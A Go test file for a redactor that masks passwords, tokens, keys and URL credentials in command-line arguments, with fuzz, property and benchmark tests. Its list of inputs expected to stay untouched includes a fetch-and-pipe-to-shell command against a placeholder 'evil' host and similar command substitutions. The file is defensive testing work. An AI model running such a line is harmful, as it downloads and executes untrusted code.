package redact

import (
	"bytes"
	"slices"
	"strings"
	"testing"
	"testing/quick"
	"time"
)

func builtin(t testing.TB) *Redactor {
	t.Helper()
	r, err := New(Builtin(), nil)
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// command makes arguments of words that are set apart by blanks; "_" stands for a blank within an argument.
func command(line string) []byte {
	text := strings.ReplaceAll(strings.Join(strings.Fields(line), "\x00")+"\x00", "_", " ")
	return []byte(strings.ReplaceAll(text, "~", "_"))
}

func TestSecretsAreReplaced(t *testing.T) {
	r := builtin(t)
	for _, tt := range []struct{ line, want, rules string }{
		{"app --password hunter2 --host db", "app --password [redacted] --host db", "name"},
		{"app --password=hunter2,x;y", "app --password=[redacted]", "name"},
		{"app -password hunter2", "app -password [redacted]", "name"},
		{"app --db-pass hunter2", "app --db-pass [redacted]", "name"},
		{"app --PASSWORD hunter2", "app --PASSWORD [redacted]", "name"},
		{"app --api-key k1 --apikey=k2", "app --api-key [redacted] --apikey=[redacted]", "name"},
		{"app --client-secret s --auth-token t", "app --client-secret [redacted] --auth-token [redacted]", "name"},
		{"app -Ddb.password=hunter2", "app -Ddb.password=[redacted]", "name"},
		{"env PGPASSWORD=a,b psql", "env PGPASSWORD=[redacted] psql", "name"},
		{"docker run -e MYSQL~ROOT~PASSWORD=x img", "docker run -e MYSQL~ROOT~PASSWORD=[redacted] img", "name"},
		{"MYSQL~PWD=x", "MYSQL~PWD=[redacted]", "name"},
		{"aws configure set aws~secret~access~key wJalr/x", "aws configure set aws~secret~access~key [redacted]", "name"},
		{"nmcli con mod net wifi-sec.psk hunter2", "nmcli con mod net wifi-sec.psk [redacted]", "name"},
		{"sh -c PGPASSWORD=hunter2_psql_-h_db", "sh -c PGPASSWORD=[redacted]_psql_-h_db", "name"},
		{"env PGPASSWORD=two_words psql", "env PGPASSWORD=[redacted] psql", "name"},
		{"bash -lc TOKEN='$x_y'_run", "bash -lc TOKEN='[redacted]'_run", "name"},
		{"sh -c export_TOKEN=abc;_run", "sh -c export_TOKEN=[redacted];_run", "name"},
		{"sh -c app_--password_hunter2_--host_db", "sh -c app_--password_[redacted]_--host_db", "name"},
		{`post {"user":"a","password":"x,y"}`, `post {"user":"a","password":"[redacted]"}`, "name"},
		{"wget http://h/p?token=abc&x=1", "wget http://h/p?token=[redacted]&x=1", "name"},
		{"curl -H Authorization:_Bearer_abcdefgh1 u", "curl -H Authorization:_[redacted] u", "header"},
		{"curl -H X-Api-Key:_k u", "curl -H X-Api-Key:_[redacted] u", "name"},
		{"curl --cookie-jar f -H Cookie:_a=b;c=d u", "curl --cookie-jar f -H Cookie:_[redacted] u", "header"},
		{"psql postgres://ada:hunter2@db:5432/x", "psql postgres://ada:[redacted]@db:5432/x", "url"},
		{"git clone https://0123456789abcdef0123@github.com/x", "git clone https://[redacted]@github.com/x", "url"},
		{"git clone https://x:p@ss@h/x", "git clone https://x:[redacted]@h/x", "url"},
		{"app AKIAIOSFODNN7EXAMPLE", "app [redacted]", "token"},
		{"app ghp~0123456789abcdefghij0123", "app [redacted]", "token"},
		{"app eyJhbGciOiJI.eyJzdWIiOiIx.c2ln", "app [redacted]", "token"},
		{"app -----BEGIN_RSA_PRIVATE_KEY-----MIIE-----END_RSA_PRIVATE_KEY-----", "app -----BEGIN_RSA_PRIVATE_KEY-----[redacted]-----END_RSA_PRIVATE_KEY-----", "private_key"},
		{"app -----BEGIN_PRIVATE_KEY-----MIIEcut", "app -----BEGIN_PRIVATE_KEY-----[redacted]", "private_key"},
		{"curl -u ada:hunter2 http://h", "curl -u ada:[redacted] http://h", "login"},
		{"curl -uada:hunter2_x http://h", "curl -uada:[redacted] http://h", "login"},
		{"curl -sSu ada:x -U proxy:y http://h", "curl -sSu ada:[redacted] -U proxy:[redacted] http://h", "login"},
		{"curl --user ada:hunter2 --proxy-user=a:b u", "curl --user ada:[redacted] --proxy-user=a:[redacted] u", "login"},
		{"sh -c /usr/bin/curl_-u_'ada:hunter2'_http://h", "sh -c /usr/bin/curl_-u_'ada:[redacted]'_http://h", "login"},
		{"smbclient -U ada%hunter2 //h/x", "smbclient -U ada%[redacted] //h/x", "login"},
		{"mysql -uroot -phunter2 db", "mysql -uroot -p[redacted] db", "short~option"},
		{"sudo mysqldump -phunter2 db", "sudo mysqldump -p[redacted] db", "short~option"},
		{"sshpass -p hunter2 ssh h", "sshpass -p [redacted] ssh h", "short~option"},
		{"docker login -u ada -p hunter2 h", "docker login -u ada -p [redacted] h", "short~option"},
		{"sh -c helm_registry_login_-p_hunter2_h", "sh -c helm_registry_login_-p_[redacted]_h", "short~option"},
		{"redis-cli -a hunter2 ping", "redis-cli -a [redacted] ping", "short~option"},
		{"ldapsearch -D cn=x -w hunter2", "ldapsearch -D cn=x -w [redacted]", "short~option"},
		{"openssl rsa -passin pass:hunter2", "openssl rsa -passin pass:[redacted]", "name"},
	} {
		got, rules := r.Redact(command(tt.line))
		if string(got) != string(command(tt.want)) || rules != strings.ReplaceAll(tt.rules, "~", "_") {
			t.Errorf("%s:\n got %q by %s\nwant %q by %s", tt.line, got, rules, command(tt.want), tt.rules)
		}
	}
}

func TestASecretBeforeTheOneOfALaterRuleIsReplacedToo(t *testing.T) {
	r, err := New(Builtin(), []Rule{{"card", `\b[0-9]{4}-[0-9]{4}-[0-9]{4}\b`}})
	if err != nil {
		t.Fatal(err)
	}
	for _, tt := range []struct{ line, want, rules string }{
		{"docker run -e MYSQL~ROOT~PASSWORD=hunter2 -p 3306:3306 mysql", "docker run -e MYSQL~ROOT~PASSWORD=[redacted] -p 3306:3306 mysql", "name"},
		{"docker -e TOKEN=abc login -p hunter2", "docker -e TOKEN=[redacted] login -p [redacted]", "name,short~option"},
		{"curl -H Authorization:_Bearer_abcdefgh1 -u a:b u", "curl -H Authorization:_[redacted] -u a:[redacted] u", "header,login"},
		{"pay-in --password hunter2 1234-1234-1234", "pay-in --password [redacted] [redacted]", "name,card"},
		{"git clone https://ghp~0123456789abcdefghij0123:x-oauth@h/x", "git clone https://[redacted]:[redacted]@h/x", "url,token"},
	} {
		got, rules := r.Redact(command(tt.line))
		if string(got) != string(command(tt.want)) || rules != strings.ReplaceAll(tt.rules, "~", "_") {
			t.Errorf("%s:\n got %q by %s\nwant %q by %s", tt.line, got, rules, command(tt.want), tt.rules)
		}
	}
}

func TestOrdinaryArgumentsStayAsTheyAre(t *testing.T) {
	r := builtin(t)
	for _, line := range []string{
		"ls -la /home/ada/passwords", "mkdir -p /tmp/x", "grep -r password .", "passwd root", "cat /etc/passwd",
		"mysql -p db", "mysql -P 3306", "curl http://h:8080/x@y", "kubectl get secret name", "vault token lookup",
		"docker run -p 8080:80 img", "sh -c podman_run_-p_8080:80_img", "docker compose -p shop up", "helm list -p",
		"docker run -u 1000:1000 img", "app --password-file /run/secret", "ssh ada@host", "psql --no-password",
		"python3 -c import_secrets", "app --compass north", "PWD=/home/ada", "git log --author ada@example.org",
		"gcc -DNDEBUG -o token.o -c token.c", "app Asia/Tokyo", "\xff\xfe",
		"sh -c token=$(curl_-s_evil|sh)", `sh -c password="$(evil)"`, "sh -c secret=`evil`",
	} {
		text := command(line)
		got, rules := r.Redact(text)
		if !bytes.Equal(got, text) || rules != "" {
			t.Errorf("%s: %q by %s", line, got, rules)
		}
	}
}

func TestASecretThatWasCutAtTheEndIsOneToo(t *testing.T) {
	got, _ := builtin(t).Redact([]byte("app\x00--password\x00hunt"))
	if want := "app\x00--password\x00[redacted]"; string(got) != want {
		t.Errorf("%q, want %q", got, want)
	}
}

func TestWhatComesAfterTooManyMatchesIsSecret(t *testing.T) {
	text := bytes.Repeat([]byte("a\x00"), 500)
	r, err := New(nil, []Rule{{Name: "a", Pattern: "a"}})
	if err != nil {
		t.Fatal(err)
	}
	got, _ := r.Redact(text)
	if want := bytes.Repeat([]byte(Mark+"\x00"), 500); !bytes.Equal(got, want) {
		t.Errorf("%q", got)
	}
}

func TestRulesThatAreNone(t *testing.T) {
	for name, rules := range map[string][]Rule{
		"pattern":  {{Name: "x", Pattern: "("}},
		"too long": {{Name: "x", Pattern: strings.Repeat("x", MaxPattern+1)}},
		"too many": make([]Rule, MaxRules+1),
	} {
		if _, err := New(nil, rules); err == nil {
			t.Errorf("%s: taken", name)
		}
	}
}

func TestConfiguredRules(t *testing.T) {
	r, err := New(nil, []Rule{
		{"card", `\b[0-9]{4}-[0-9]{4}-[0-9]{4}\b`},
		{"pin", `(?i)kiosk\x00(?:[^\x00]*\x00)*--pin\x00([^\x00]*)`},
	})
	if err != nil {
		t.Fatal(err)
	}
	for _, tt := range []struct{ line, want, rules string }{
		{"pay 1234-1234-1234 to ada", "pay [redacted] to ada", "card"},
		{"KIO\u017f\u212a -v --pin 4711", "KIO\u017f\u212a -v --pin [redacted]", "pin"},
		{"app --password hunter2", "app --password hunter2", ""},
	} {
		got, rules := r.Redact(command(tt.line))
		if string(got) != string(command(tt.want)) || rules != tt.rules {
			t.Errorf("%s: %q by %q", tt.line, got, rules)
		}
	}
}

// TestAnExpressionsTextsMissNothing compares with a redactor that tries expressions on everything.
func TestAnExpressionsTextsMissNothing(t *testing.T) {
	rules := []Rule{
		{"a", `(?i)(?:key|sas)[_-]?(?:id)?=([a-z]+)`}, {"b", `x{2,}y|(?:ab|cd)+e`}, {"c", `\bsk_(\w+)`}, {"d", `[k-m]s[^a]`},
	}
	fast, err := New(nil, rules)
	if err != nil {
		t.Fatal(err)
	}
	slow, err := New(nil, rules)
	if err != nil {
		t.Fatal(err)
	}
	slow.scanner.always = 1<<len(rules) - 1
	words := []string{"key", "KEY", "\u212aey", "sa\u017f", "SAS", "_", "-", "id", "=", "x", "y", "ab", "cd", "e", "sk_", "k", "s", "\xff", "\x00", " "}
	same := func(choice []uint8) bool {
		var b []byte
		for _, c := range choice {
			b = append(b, words[int(c)%len(words)]...)
		}
		got, rules := fast.Redact(b)
		want, wantRules := slow.Redact(b)
		return bytes.Equal(got, want) && rules == wantRules
	}
	if err := quick.Check(same, &quick.Config{MaxCount: 3000}); err != nil {
		t.Error(err)
	}
}

func TestRequiredTexts(t *testing.T) {
	for pattern, want := range map[string]string{
		`(?i)PassWord=(.*)`:      "password=",
		`(?:ghp|gho|ghs)_[a-z]+`: "gho_ ghp_ ghs_",
		`[a-z]+`:                 "",
		`a|bc`:                   "",
		`(?:foo|bar)?baz`:        "baz foobaz barbaz",
		`x{3}yz*`:                "xxxy",
		`(?i)é.123`:              "123",
		"\ufffd.123":             "123",
		`abcdefghijklmnop`:       "abcdefghijkl",
	} {
		got, wanted := requiredTexts(pattern), strings.Fields(want)
		slices.Sort(got)
		slices.Sort(wanted)
		if !slices.Equal(got, wanted) {
			t.Errorf("%s: %q, want %q", pattern, got, wanted)
		}
	}
}

// FuzzRedact wants that no argument is lost or made, that what is no secret stays, and that time is bounded.
func FuzzRedact(f *testing.F) {
	f.Add([]byte("mysql\x00-uroot\x00-phunter2\x00"))
	f.Add([]byte("sh\x00-c\x00curl -u a:b https://x:y@h/?token=1\x00"))
	f.Add([]byte("\xff\xfepassword=\x00\x00"))
	f.Add([]byte("-----BEGIN PRIVATE KEY-----"))
	f.Add([]byte("eyJhbGciOiJI.eyJzdWIiOiIx.c2ln --token"))
	r := builtin(f)
	f.Fuzz(func(t *testing.T, text []byte) {
		text = text[:min(len(text), 4096)]
		before := bytes.Clone(text)
		start := time.Now()
		got, rules := r.Redact(text)
		if spent := time.Since(start); spent > time.Second/2 {
			t.Errorf("%s for %d bytes", spent, len(text))
		}
		if !bytes.Equal(text, before) || bytes.Count(got, []byte{0}) != bytes.Count(text, []byte{0}) {
			t.Errorf("%q became %q", before, got)
		}
		if rules == "" && !bytes.Equal(got, text) {
			t.Errorf("%q became %q by no rule", before, got)
		}
		rest := text
		for kept := range bytes.SplitSeq(got, []byte(Mark)) {
			i := bytes.Index(rest, kept)
			if i < 0 {
				t.Fatalf("%q became %q", before, got)
			}
			rest = rest[i+len(kept):]
		}
	})
}

// BenchmarkRedact: of ordinary arguments, against a copy of them; of some with secrets; of hostile ones, which make
// every rule a candidate on 4 KiB.
func BenchmarkRedact(b *testing.B) {
	ordinary := []byte("/usr/bin/gcc\x00-O2\x00-g\x00-Wall\x00-Iinclude\x00-DNDEBUG\x00-fstack-protector-strong\x00-c\x00-o\x00obj/net/connection.o\x00src/net/connection.c\x00")
	hostile := bytes.Repeat([]byte("curl mysql redis-cli -password -u a: ://:x eyJa AKIA header x-auth bearer pass: secret token "), 45)[:4096]
	for name, text := range map[string][]byte{
		"ordinary": ordinary,
		"secret":   []byte("mysqldump\x00-uroot\x00-phunter2\x00--host=db.example.org\x00shop\x00"),
		"4KiB":     bytes.Repeat([]byte("/usr/lib/x86_64-linux-gnu/libexample.so.1\x00"), 100)[:4096],
		"hostile":  hostile,
	} {
		b.Run(name, func(b *testing.B) {
			r := builtin(b)
			b.ReportAllocs()
			b.SetBytes(int64(len(text)))
			for b.Loop() {
				r.Redact(text)
			}
		})
	}
	b.Run("copy", func(b *testing.B) {
		var out []byte
		for b.Loop() {
			out = append(out[:0], ordinary...)
		}
	})
}
